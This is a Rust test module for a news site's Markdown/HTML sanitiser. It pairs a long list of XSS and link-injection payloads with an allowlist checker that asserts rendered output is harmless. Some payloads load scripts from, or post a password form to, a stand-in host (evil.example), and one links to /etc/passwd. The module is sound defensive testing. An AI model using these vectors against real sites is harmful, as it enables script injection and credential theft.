//! What has been tried against other sites, and how to see that it failed here.

use scraper::Html;
use scraper::node::Element;

/// Texts that run scripts, or lead people astray, where a site lets them through.
pub const PAYLOADS: &[&str] = &[
    // Elements and events.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/xss src=//evil.example></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\" onerror\n=\nalert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=1 onerror=alert(1) class=external",
    "<img src=/bilder/../admin/radera>",
    "<img src=//evil.example/bilder/x.jpg>",
    "<img src=https://evil.example/track.gif>",
    "<img srcset=\"/bilder/a.jpg 1x, https://evil.example/x 2x\">",
    "<img src=/bilder/a.jpg onload=alert(1) style=x:expression(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"></use></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<frameset onload=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<picture><source srcset=\"x\" onerror=alert(1)><img src=x></picture>",
    "<source srcset=\"https://evil.example/x 1x\">",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example><input name=losenord></form>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<isindex action=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<div style=\"position:fixed;inset:0\" onclick=alert(1)>x</div>",
    "<div style=background:url(javascript:alert(1))>",
    "<p class=\"visually-hidden\" onpointerover=alert(1)>x</p>",
    "<span data-bind=x onfocus=alert(1) tabindex=0>x</span>",
    "<template><script>alert(1)</script></template>",
    "<xss id=x onfocus=alert(1) tabindex=1>#x",
    "<a onmouseover=alert(1)>x</a>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=/\\evil.example>x</a>",
    "<a href=x target=_top rel=opener>x</a>",
    "<a id=forms name=body href=#x>x</a>",
    "<h2 id=\"x onclick=alert(1)\">x</h2>",
    "<h2 id=location.href>x</h2>",
    "<table background=javascript:alert(1)><tr><td background=//evil.example>x",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!doctype html><script>alert(1)</script>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</p></div></main><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "\u{1}script>alert(1)\u{1}/script>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#1;script>alert(1)&#1;/script>",
    "\\<script>alert(1)\\</script>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "``` \"><script>alert(1)</script>\nx\n```",
    // Links and pictures in Markdown.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3a;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#9;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\u{200b}javascript:alert(1))",
    "[x](javascript://evil.example/%0Aalert(1))",
    "[x](javascript:alert(1)//https://granasa.example)",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](view-source:javascript:alert(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\\\\\evil.example)",
    "[x](/\\\\evil.example)",
    "[x](/&Tab;/evil.example)",
    "[x](https:evil.example)",
    "[x](https://granasa.example@evil.example)",
    "[x](https://granasa.example\\\\@evil.example)",
    "[x](https://evil.example/\" onmouseover=\"alert(1))",
    "[x](https://evil.example/'onmouseover='alert(1))",
    "[x](https://evil.example \"title\\\" onmouseover=\\\"alert(1)\")",
    "[x](/\"><script>alert(1)</script>)",
    "[x](#\"><script>alert(1)</script>)",
    "[x](tel:\"><script>alert(1)</script>)",
    "[x](mailto:a@b\"><script>alert(1)</script>)",
    "[x](mailto:javascript:alert(1)@b)",
    "[x](sida:\"><script>alert(1)</script>)",
    "[x](sida:javascript:alert(1))",
    "[x](nyhet:1#\"onclick=\"alert(1))",
    "[<script>alert(1)</script>](https://evil.example)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x][y]\n\n[y]: <javascript:alert(1)> \"title\"",
    "[x]: javascript:alert(1)\n[x]",
    "<javascript:alert(1)>",
    "<javascript&colon;alert(1)>",
    "<https://evil.example/\"onmouseover=\"alert(1)>",
    "<https://evil.example/><script>alert(1)</script>",
    "<a@b\"onmouseover=\"alert(1)>",
    "<mailto:a@b.example?body=<script>>",
    "https://evil.example/\"onmouseover=\"alert(1)",
    "https://evil.example/'onmouseover='alert(1)",
    "https://evil.example/<script>alert(1)</script>",
    "javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.gif)",
    "![x](/bilder/a.jpg)",
    "![\"onerror=\"alert(1)](bild:1)",
    "![\"><script>alert(1)</script>](bild:1 \"\\\"><script>alert(1)</script>\")",
    "![x](bild:\"onerror=\"alert(1))",
    "![x](bild:1 \"<img src=x onerror=alert(1)>\")",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    // Headings, tables and attributes that texts fill.
    "## \"><script>alert(1)</script>",
    "## x {#y onclick=alert(1)}",
    "## x {onclick=alert(1)}",
    "##\"onclick=\"alert(1)",
    "| \"><script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| \" onfocus=\"alert(1) | x |\n|---|---|",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "– <script>alert(1)</script>",
    "1. <img src=x onerror=alert(1)>\n   <script>alert(1)</script>",
    "*<script>*alert(1)*</script>*",
    "**<img src=x **onerror=alert(1)>",
    "[^1]: <script>alert(1)</script>",
    "$$<script>alert(1)</script>$$",
    "---\nx: <script>alert(1)</script>\n---",
];

/// Those of texts, and the two that every parsed piece of HTML stands in.
const ELEMENTS: &[&str] = &[
    "a",
    "blockquote",
    "body",
    "br",
    "code",
    "div",
    "em",
    "figcaption",
    "figure",
    "h2",
    "h3",
    "html",
    "img",
    "li",
    "ol",
    "p",
    "picture",
    "source",
    "span",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

const ATTRIBUTES: &[&str] = &[
    "alt",
    "aria-label",
    "class",
    "decoding",
    "height",
    "href",
    "id",
    "loading",
    "rel",
    "role",
    "scope",
    "sizes",
    "src",
    "srcset",
    "start",
    "tabindex",
    "target",
    "type",
    "width",
];

const CLASSES: &[&str] = &[
    "centre",
    "end",
    "external",
    "figure",
    "reply",
    "table-scroll",
    "visually-hidden",
];

/// Fails unless a browser would find nothing but the elements, attributes and addresses of our texts.
pub fn assert_harmless(html: &str, cause: &str) {
    let document = Html::parse_fragment(html);
    for node in document.tree.values() {
        assert!(!node.is_comment() && !node.is_doctype(), "{html:?} of {cause:?}");
        if let Some(Err(fault)) = node.as_element().map(judge) {
            panic!("{fault} in {html:?} of {cause:?}");
        }
    }
}

fn judge(element: &Element) -> Result<(), String> {
    let name = element.name();
    if !ELEMENTS.contains(&name) {
        return Err(format!("<{name}>"));
    }
    for (attribute, value) in element.attrs() {
        let harmless = ATTRIBUTES.contains(&attribute)
            && match attribute {
                "class" => value.is_empty() || value.split(' ').all(|class| CLASSES.contains(&class)),
                "href" => leads_somewhere_known(value),
                "src" => value.starts_with("/bilder/"),
                "srcset" => value
                    .split(", ")
                    .all(|candidate| candidate.starts_with("/bilder/")),
                "id" => value
                    .bytes()
                    .all(|sign| sign == b'-' || sign.is_ascii_alphanumeric()),
                "target" => {
                    value == "_blank" && element.attr("rel").is_some_and(|rel| rel.contains("noopener"))
                }
                "aria-label" | "role" | "tabindex" => ["Tabell", "group", "0"].contains(&value),
                _ => true,
            };
        if !harmless {
            return Err(format!("{attribute}={value:?} of <{name}>"));
        }
    }
    Ok(())
}

/// As a browser reads the address, from a page of the site.
fn leads_somewhere_known(href: &str) -> bool {
    let here = url::Url::parse("https://granasa.example/nyheter/x").unwrap();
    let Ok(url) = here.join(href) else {
        return false;
    };
    let typed_host = href.starts_with("http://") || href.starts_with("https://");
    match url.scheme() {
        "http" | "https" => url.username().is_empty() && (typed_host || url.host_str() == here.host_str()),
        scheme => matches!(scheme, "mailto" | "sms" | "tel"),
    }
}
